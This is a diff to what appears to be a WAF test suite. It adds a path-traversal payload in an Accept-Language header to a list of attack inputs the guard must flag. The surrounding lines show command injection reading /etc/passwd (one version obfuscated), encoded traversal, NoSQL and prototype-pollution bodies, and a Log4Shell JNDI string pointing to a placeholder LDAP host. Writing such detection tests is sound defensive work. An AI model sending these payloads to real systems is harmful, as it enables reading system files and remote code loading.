@@ -265,6 +265,7 @@ def test_oversized_requests_are_marked_and_blocked_by_default(guard: WAFGuard) -
         (request(query="host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"), "cmdi"),
         (request(query="host=127.0.0.1%3Bc%24%7Bu%7Dat%20%2Fet%241c%2Fpasswd"), "cmdi"),  # c${u}at /et$1c/passwd
         (request(path="/static/..%252f..%252f..%252fetc/passwd"), "traversal"),
+        (request(headers=[("accept-language", "../../../../etc/passwd")]), "traversal"),  # a locale file
         (request("POST", body='{"user": {"$ne": null}}', content_type="application/json"), "nosqli"),
         (request("POST", body='{"__proto__": {"admin": true}}', content_type="application/json"), "prototype"),
         (request(headers=[("x-api-version", "${${lower:j}ndi:ldap://x.example/a}")]), "log4shell"),
